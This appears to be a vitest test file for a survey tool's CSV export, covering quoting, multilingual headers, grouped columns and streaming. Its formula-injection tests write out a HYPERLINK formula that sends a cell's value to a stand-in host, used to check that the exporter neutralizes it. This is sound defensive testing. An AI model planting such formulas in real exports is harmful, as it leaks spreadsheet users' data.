import { describe, expect, it } from 'vitest';
import { neutralizeFormula, quoteField } from '../../../server/exports/csv-cells';
import { csvGroupCounts, csvHeader, csvRow, responsesToCsv, responsesToCsvLines } from '../../../server/exports/csv-export';
import type { CsvExportOptions, ExportResponse, SurveyJson } from '../../../server/exports/export-types';
import { parseCsv } from './parse-csv';

const survey: SurveyJson = {
  title: { default: 'Needs', fr: 'Besoins' },
  pages: [
    {
      name: 'one',
      elements: [
        { type: 'html', name: 'intro', html: 'Welcome' },
        {
          type: 'radiogroup',
          name: 'first_language',
          title: { default: 'First language', fr: 'Première langue', ar: 'اللغة الأولى' },
          showOtherItem: true,
          choices: [
            { value: 'ar', text: { default: 'Arabic', fr: 'Arabe', ar: 'العربية' } },
            { value: 'fr', text: { default: 'French', fr: 'Français' } },
          ],
        },
        {
          type: 'checkbox',
          name: 'needs',
          title: { default: 'Needs', fr: 'Besoins' },
          showNoneItem: true,
          choices: [
            { value: 'housing', text: { default: 'Housing', fr: 'Logement' } },
            { value: 'jobs', text: { default: 'Jobs, training', fr: 'Emploi, formation' } },
            'childcare',
          ],
        },
        {
          type: 'panel',
          name: 'household',
          elements: [
            { type: 'text', name: 'household_size', inputType: 'number', title: 'People at home' },
            { type: 'text', name: 'postal_code' },
          ],
        },
      ],
    },
    {
      name: 'two',
      elements: [
        { type: 'boolean', name: 'renting', title: { default: 'Do you rent?', fr: 'Êtes-vous locataire ?' } },
        { type: 'rating', name: 'satisfaction', title: 'Satisfaction', rateMax: 5 },
        {
          type: 'matrix',
          name: 'services',
          title: { default: 'Services used', fr: 'Services utilisés' },
          columns: [
            { value: 'yes', text: { default: 'Yes', fr: 'Oui' } },
            { value: 'no', text: { default: 'No', fr: 'Non' } },
          ],
          rows: [
            { value: 'language', text: { default: 'Language classes', fr: 'Cours de langue' } },
            { value: 'jobs', text: { default: 'Job search', fr: "Recherche d'emploi" } },
          ],
        },
        { type: 'comment', name: 'story', title: { default: 'Your story', fr: 'Votre histoire' } },
      ],
    },
  ],
};

const full: ExportResponse = {
  id: 'r1',
  submittedAt: '2026-05-04T10:00:00.000Z',
  community: 'Peel',
  channel: 'kiosk',
  locale: 'fr',
  questionnaireVersion: 2,
  answers: {
    first_language: 'ar',
    needs: ['jobs', 'housing'],
    household_size: 4,
    postal_code: 'L5B',
    renting: true,
    satisfaction: 2,
    services: { language: 'yes', jobs: 'no' },
    story: 'Le loyer est trop cher.\nJ\'ai "deux" emplois, et peu de temps.',
  },
};

const withOther: ExportResponse = {
  ...full,
  id: 'r2',
  community: 'Halton',
  answers: { first_language: 'other', 'first_language-Comment': 'Tigrinya', needs: ['none'], renting: false },
};

const options = (lang: string, labels: 'text' | 'values'): CsvExportOptions => ({ survey, lang, labels });

function table(lang: string, labels: 'text' | 'values', responses: ExportResponse[] = [full, withOther]) {
  const text = responsesToCsv({ ...options(lang, labels), responses });
  const [header, ...rows] = parseCsv(text.slice(1));
  return { text, header: header!, rows, at: (row: string[], name: string) => row[header!.findIndex((h) => h.endsWith(`[${name}]`))] };
}

describe('responsesToCsv file format', () => {
  it('starts with a UTF-8 byte order mark and ends every record with CRLF', () => {
    const { text } = table('en', 'text');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    // The strict reader rejects any bare LF or CR outside quotes.
    expect(parseCsv(text.slice(1))).toHaveLength(3);
  });

  it('writes the fixed columns, then one column per question in questionnaire order, skipping html', () => {
    expect(table('en', 'text').header).toEqual([
      'response_id',
      'submitted_at',
      'community',
      'channel',
      'locale',
      'version',
      'First language [first_language]',
      'First language — Other (describe) [first_language-Comment]',
      'Needs [needs]',
      'People at home [household_size]',
      'postal_code [postal_code]',
      'Do you rent? [renting]',
      'Satisfaction [satisfaction]',
      'Services used — Language classes [services.language]',
      'Services used — Job search [services.jobs]',
      'Your story [story]',
    ]);
  });

  it('heads columns in French when asked, falling back to English where a title has no French', () => {
    const { header } = table('fr', 'text');
    expect(header.slice(6)).toEqual([
      'Première langue [first_language]',
      'Première langue — Autre (préciser) [first_language-Comment]',
      'Besoins [needs]',
      'People at home [household_size]',
      'postal_code [postal_code]',
      'Êtes-vous locataire ? [renting]',
      'Satisfaction [satisfaction]',
      'Services utilisés — Cours de langue [services.language]',
      "Services utilisés — Recherche d'emploi [services.jobs]",
      'Votre histoire [story]',
    ]);
  });

  it('gives every row as many cells as the header', () => {
    const { header, rows } = table('en', 'values');
    expect(rows.map((row) => row.length)).toEqual([header.length, header.length]);
  });

  it('quotes fields holding a comma, a quote or a line break, doubling inner quotes, and reads back the same text', () => {
    const { text, rows, at } = table('en', 'text');
    expect(text).toContain('"Le loyer est trop cher.\nJ\'ai ""deux"" emplois, et peu de temps."');
    expect(at(rows[0]!, 'story')).toBe(full.answers.story);
    expect(at(rows[0]!, 'needs')).toBe('Housing; Jobs, training');
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    ['lone\rcr', '"lone\rcr"'],
    ['lone\nlf', '"lone\nlf"'],
    ['semi;colon', 'semi;colon'],
  ])('quotes %j as %j with a comma delimiter', (input, expected) => {
    expect(quoteField(input, ',')).toBe(expected);
  });

  it('uses a semicolon delimiter when asked, quoting the joined choices', () => {
    const text = responsesToCsv({ ...options('fr', 'text'), delimiter: ';', responses: [full] });
    const [header, row] = parseCsv(text.slice(1), ';');
    expect(row![header!.indexOf('Besoins [needs]')]).toBe('Logement; Emploi, formation');
    expect(text).toContain('"Logement; Emploi, formation"');
  });
});

describe('responsesToCsv answers', () => {
  it('renders choices as their French labels, multiple choices in questionnaire order', () => {
    const { rows, at } = table('fr', 'text');
    const [first, second] = rows as [string[], string[]];
    expect(first.slice(0, 6)).toEqual(['r1', '2026-05-04T10:00:00.000Z', 'Peel', 'kiosk', 'fr', '2']);
    expect(at(first, 'first_language')).toBe('Arabe');
    expect(at(first, 'needs')).toBe('Logement; Emploi, formation');
    expect(at(first, 'renting')).toBe('Oui');
    expect(at(first, 'satisfaction')).toBe('2');
    expect(at(first, 'household_size')).toBe('4');
    expect(at(first, 'services.language')).toBe('Oui');
    expect(at(first, 'services.jobs')).toBe('Non');
    expect(at(second, 'first_language')).toBe('Autre (préciser)');
    expect(at(second, 'first_language-Comment')).toBe('Tigrinya');
    expect(at(second, 'needs')).toBe('Aucun');
    expect(at(second, 'renting')).toBe('Non');
    expect(at(second, 'story')).toBe('');
    expect(at(second, 'services.jobs')).toBe('');
  });

  it('renders stored values when asked for values', () => {
    const { rows, at } = table('fr', 'values');
    const [first, second] = rows as [string[], string[]];
    expect(at(first, 'first_language')).toBe('ar');
    expect(at(first, 'needs')).toBe('housing; jobs');
    expect(at(first, 'renting')).toBe('true');
    expect(at(first, 'services.language')).toBe('yes');
    expect(at(second, 'first_language')).toBe('other');
    expect(at(second, 'first_language-Comment')).toBe('Tigrinya');
    expect(at(second, 'needs')).toBe('none');
  });

  it('keeps Arabic text intact, in answers, labels and headers', () => {
    const arabic: ExportResponse = { ...full, id: 'r3', locale: 'ar', answers: { first_language: 'ar', story: 'الإيجار مرتفع جداً، ولا أجد عملاً' } };
    const { text, header, rows, at } = table('ar', 'text', [arabic]);
    expect(header).toContain('اللغة الأولى [first_language]');
    expect(at(rows[0]!, 'first_language')).toBe('العربية');
    expect(at(rows[0]!, 'story')).toBe('الإيجار مرتفع جداً، ولا أجد عملاً');
    expect(Buffer.from(text, 'utf8').toString('utf8')).toBe(text);
  });

  it('writes a ranking one column per place, in the order the respondent gave, unlike a checkbox', () => {
    const ranked: SurveyJson = {
      elements: [
        { type: 'ranking', name: 'priorities', title: 'Priorities', choices: ['housing', 'jobs', 'health'] },
        { type: 'checkbox', name: 'ticked', choices: ['housing', 'jobs', 'health'] },
      ],
    };
    const response: ExportResponse = { ...full, answers: { priorities: ['health', 'housing', 'jobs'], ticked: ['health', 'housing'] } };
    const text = responsesToCsv({ survey: ranked, lang: 'en', labels: 'text', responses: [response] });
    const [header, row] = parseCsv(text.slice(1));
    expect(header!.slice(-4)).toEqual(['Priorities — rank 1 [priorities[0]]', 'Priorities — rank 2 [priorities[1]]', 'Priorities — rank 3 [priorities[2]]', 'ticked [ticked]']);
    expect(row!.slice(-4)).toEqual(['health', 'housing', 'jobs', 'housing; health']);
  });

  it('shows a value outside the choice list as stored and ignores answers to questions not in the survey', () => {
    const odd: ExportResponse = { ...full, answers: { needs: ['jobs', 'transit'], first_language: 'Tigrinya', removed_question: 'x' } };
    const { header, rows, at } = table('en', 'text', [odd]);
    expect(at(rows[0]!, 'needs')).toBe('Jobs, training; transit');
    expect(at(rows[0]!, 'first_language')).toBe('Tigrinya');
    expect(header.some((h) => h.includes('removed_question'))).toBe(false);
  });
});

describe('responsesToCsv neutralizes spreadsheet formulas', () => {
  const triggers = ['=', '+', '-', '@', '\t', '\r', '\uFF1D'];

  it.each(triggers.map((t) => [JSON.stringify(t), t]))('prefixes a quote to text starting with %s', (_, trigger) => {
    expect(neutralizeFormula(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
  });

  it('leaves text with a trigger character further in alone', () => {
    expect(neutralizeFormula('a=b-c')).toBe('a=b-c');
    expect(neutralizeFormula('')).toBe('');
  });

  it.each(triggers.map((t) => [JSON.stringify(t), t]))(
    'neutralizes %s in answers, other comments, community, channel, ids, choice labels and headers',
    (_, trigger) => {
      const payload = `${trigger}HYPERLINK("http://example.test?x="&A1,"click")`;
      const hostile: SurveyJson = {
        elements: [
          { type: 'comment', name: 'story', title: payload },
          { type: 'radiogroup', name: 'pick', title: 'Pick', showOtherItem: true, choices: [{ value: 'a', text: payload }] },
        ],
      };
      const response: ExportResponse = {
        id: payload,
        submittedAt: payload,
        community: payload,
        channel: payload,
        locale: payload,
        questionnaireVersion: 1,
        answers: { story: payload, pick: 'a', 'pick-Comment': payload },
      };
      const text = responsesToCsv({ survey: hostile, lang: 'en', labels: 'text', responses: [response] });
      const [header, row] = parseCsv(text.slice(1));
      const cells = [...header!, ...row!];
      expect(cells.filter((cell) => triggers.includes(cell[0] ?? ''))).toEqual([]);
      // Titles and labels are trimmed, so a leading tab or CR is gone there rather than quoted.
      expect(header).toContain(/\s/.test(trigger) ? `${payload.trim()} [story]` : `'${payload} [story]`);
      const label = /\s/.test(trigger) ? payload.trim() : `'${payload}`;
      const quoted = `'${payload}`;
      expect(row).toEqual([quoted, quoted, quoted, quoted, quoted, '1', quoted, label, quoted]);
    },
  );

  it('writes numeric answers as numbers, negative ones included, but quotes text that looks like a negative number', () => {
    const hostile: SurveyJson = {
      elements: [
        { type: 'text', name: 'change', inputType: 'number' },
        { type: 'text', name: 'typed' },
      ],
    };
    const response: ExportResponse = { ...full, answers: { change: -3.5, typed: '-3.5' } };
    const text = responsesToCsv({ survey: hostile, lang: 'en', labels: 'values', responses: [response] });
    const [, row] = parseCsv(text.slice(1));
    expect(row!.slice(-2)).toEqual(['-3.5', "'-3.5"]);
  });
});

describe('streaming the CSV', () => {
  it('gives the same file from csvHeader and csvRow, or from the line generator over an async source', async () => {
    const opts = options('fr', 'text');
    const whole = responsesToCsv({ ...opts, responses: [full, withOther] });
    expect(csvHeader(opts) + csvRow(opts, full) + csvRow(opts, withOther)).toBe(whole);

    async function* fromDatabase() {
      yield full;
      yield withOther;
    }
    const lines: string[] = [];
    for await (const line of responsesToCsvLines({ ...opts, responses: fromDatabase() })) lines.push(line);
    expect(lines).toHaveLength(3);
    expect(lines.join('')).toBe(whole);
  });

  it('writes only the BOM and header for a consultation without responses', () => {
    const text = responsesToCsv({ ...options('en', 'values'), responses: [] });
    expect(parseCsv(text.slice(1))).toHaveLength(1);
  });
});

describe('dynamic panels and matrixdynamic as numbered groups', () => {
  const dynamic: SurveyJson = {
    elements: [
      {
        type: 'paneldynamic',
        name: 'members',
        title: { default: 'Household member', fr: 'Membre du ménage' },
        templateElements: [
          { type: 'text', name: 'age', inputType: 'number', title: { default: 'Age', fr: 'Âge' } },
          {
            type: 'panel',
            name: 'work_box',
            elements: [
              {
                type: 'radiogroup',
                name: 'work',
                title: { default: 'Working', fr: 'Travaille' },
                showOtherItem: true,
                choices: [{ value: 'yes', text: { default: 'Yes', fr: 'Oui' } }, { value: 'no', text: { default: 'No', fr: 'Non' } }],
              },
            ],
          },
          {
            type: 'matrixdynamic',
            name: 'visits',
            title: { default: 'Visits', fr: 'Visites' },
            columns: [{ name: 'place', title: { default: 'Place', fr: 'Lieu' }, cellType: 'dropdown', choices: [{ value: 'clinic', text: { default: 'Clinic', fr: 'Clinique' } }] }],
          },
        ],
      },
      {
        type: 'matrixdynamic',
        name: 'jobs',
        title: 'Jobs',
        columns: [
          { name: 'sector', title: 'Sector', choices: [{ value: 'care', text: { default: 'Care', fr: 'Soins' } }] },
          { name: 'hours', cellType: 'text', inputType: 'number' },
        ],
      },
    ],
  };
  const household: ExportResponse = {
    ...full,
    answers: {
      members: [
        { age: 34, work: 'yes', visits: [{ place: 'clinic' }, { place: 'clinic' }] },
        { age: 9 },
        { age: 61, work: 'other', 'work-Comment': 'Retired' },
      ],
      jobs: [{ sector: 'care', hours: 20 }],
    },
  };
  const alone: ExportResponse = { ...full, id: 'r9', answers: { members: [{ age: 40, work: 'no' }] } };

  it('counts the groups of the fullest response, nested ones by their path without numbers', async () => {
    async function* fromDatabase() {
      yield household;
      yield alone;
    }
    expect(await csvGroupCounts(dynamic, fromDatabase())).toEqual({ members: 3, 'members[].visits': 2, jobs: 1 });
    expect(await csvGroupCounts(survey, [full])).toEqual({});
    expect(await csvGroupCounts(dynamic, [])).toEqual({});
  });

  it('writes one numbered group of columns per panel or row, labels in the chosen language', async () => {
    const groups = await csvGroupCounts(dynamic, [household, alone]);
    const text = responsesToCsv({ survey: dynamic, lang: 'fr', labels: 'text', groups, responses: [household, alone] });
    const [header, first, second] = parseCsv(text.slice(1)) as [string[], string[], string[]];
    expect(header.slice(6)).toEqual([
      'Membre du ménage 1 — Âge [members[0].age]',
      'Membre du ménage 1 — Travaille [members[0].work]',
      'Membre du ménage 1 — Travaille — Autre (préciser) [members[0].work-Comment]',
      'Membre du ménage 1 — Visites 1 — Lieu [members[0].visits[0].place]',
      'Membre du ménage 1 — Visites 2 — Lieu [members[0].visits[1].place]',
      'Membre du ménage 2 — Âge [members[1].age]',
      'Membre du ménage 2 — Travaille [members[1].work]',
      'Membre du ménage 2 — Travaille — Autre (préciser) [members[1].work-Comment]',
      'Membre du ménage 2 — Visites 1 — Lieu [members[1].visits[0].place]',
      'Membre du ménage 2 — Visites 2 — Lieu [members[1].visits[1].place]',
      'Membre du ménage 3 — Âge [members[2].age]',
      'Membre du ménage 3 — Travaille [members[2].work]',
      'Membre du ménage 3 — Travaille — Autre (préciser) [members[2].work-Comment]',
      'Membre du ménage 3 — Visites 1 — Lieu [members[2].visits[0].place]',
      'Membre du ménage 3 — Visites 2 — Lieu [members[2].visits[1].place]',
      'Jobs 1 — Sector [jobs[0].sector]',
      'Jobs 1 — hours [jobs[0].hours]',
    ]);
    expect(first.slice(6)).toEqual(['34', 'Oui', '', 'Clinique', 'Clinique', '9', '', '', '', '', '61', 'Autre (préciser)', 'Retired', '', '', 'Soins', '20']);
    expect(second.slice(6)).toEqual(['40', 'Non', '', '', '', '', '', '', '', '', '', '', '', '', '', '', '']);
  });

  it("writes a panel's buttongroup and imagepicker by their labels, a ranking one column per place, a range slider its start and end, and a matrix one column per row", () => {
    const trips: SurveyJson = {
      elements: [
        {
          type: 'paneldynamic',
          name: 'trips',
          title: 'Trip',
          templateElements: [
            { type: 'image', name: 'banner', imageLink: '/pictures/bus.png' },
            { type: 'buttongroup', name: 'cost', title: 'Cost', choices: [{ value: 'free', text: 'Free' }, { value: 'paid', text: 'Paid' }] },
            { type: 'imagepicker', name: 'way', title: 'Way', multiSelect: true, choices: [{ value: 'bus', text: 'Bus' }, { value: 'bike', text: 'Bike' }] },
            { type: 'ranking', name: 'liked', title: 'Liked', choices: [{ value: 'price', text: 'Price' }, { value: 'speed', text: 'Speed' }] },
            { type: 'slider', name: 'hours', title: 'Hours', sliderType: 'range', min: 6, max: 22 },
            { type: 'matrix', name: 'rate', title: 'Rate', rows: [{ value: 'clean', text: 'Clean' }], columns: [{ value: 1, text: 'Poor' }, { value: 2, text: 'Good' }] },
          ],
        },
      ],
    };
    const answered: ExportResponse = { ...full, answers: { trips: [{ cost: 'paid', way: ['bike', 'bus'], liked: ['speed', 'price'], hours: [8, 20], rate: { clean: 2 } }] } };
    const text = responsesToCsv({ survey: trips, lang: 'en', labels: 'text', groups: { trips: 1 }, responses: [answered] });
    const [header, row] = parseCsv(text.slice(1)) as [string[], string[]];
    expect(header.slice(6)).toEqual([
      'Trip 1 — Cost [trips[0].cost]',
      'Trip 1 — Way [trips[0].way]',
      'Trip 1 — Liked — rank 1 [trips[0].liked[0]]',
      'Trip 1 — Liked — rank 2 [trips[0].liked[1]]',
      'Trip 1 — Hours — start [trips[0].hours[0]]',
      'Trip 1 — Hours — end [trips[0].hours[1]]',
      'Trip 1 — Rate — Clean [trips[0].rate.clean]',
    ]);
    expect(row.slice(6)).toEqual(['Paid', 'Bus; Bike', 'Speed', 'Price', '8', '20', 'Good']);
  });

  it('writes one group of each when no count is given, so the columns exist before anyone answers', () => {
    const [header] = parseCsv(csvHeader({ survey: dynamic, lang: 'en', labels: 'values' }).slice(1));
    expect(header!.filter((h) => h.includes('[members['))).toEqual([
      'Household member 1 — Age [members[0].age]',
      'Household member 1 — Working [members[0].work]',
      'Household member 1 — Working — Other (describe) [members[0].work-Comment]',
      'Household member 1 — Visits 1 — Place [members[0].visits[0].place]',
    ]);
  });
});
